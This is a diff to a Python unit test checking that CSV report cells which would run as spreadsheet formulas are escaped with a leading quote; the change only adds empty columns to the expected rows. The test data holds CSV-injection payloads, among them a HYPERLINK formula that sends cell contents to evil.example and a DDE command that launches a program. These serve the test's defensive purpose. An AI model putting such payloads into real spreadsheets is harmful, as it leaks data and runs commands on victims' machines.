@@ -254,10 +254,10 @@ def test_report_csv_cells_that_would_run_as_formulas_get_a_quote() -> None:
     lines = text.split("\r\n")  # not splitlines(): a CR inside a quoted cell ends no line
     assert lines[1] == (
         '7 (913) 000-00-01;"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Оплатить"")";;;;'
-        "оповещён;да;1;1;нет;'+7 913 000-00-01;;;0;0;;;;"
+        "оповещён;да;1;1;нет;'+7 913 000-00-01;;;;;0;0;;;;"
     )
     assert lines[2] == (
-        ";'-2+3;;;;;;0;0;;;'@sum@example.ru;не доставлено;0;0;550;'=cmd|' /C calc'!A0;"
+        ";'-2+3;;;;;;0;0;;;;;'@sum@example.ru;не доставлено;0;0;550;'=cmd|' /C calc'!A0;"
         "'\t=1+1;\"'\r=1+1\""
     )
     assert lines[3:] == [""], "rows only: the totals are in the XLSX and the JSON"
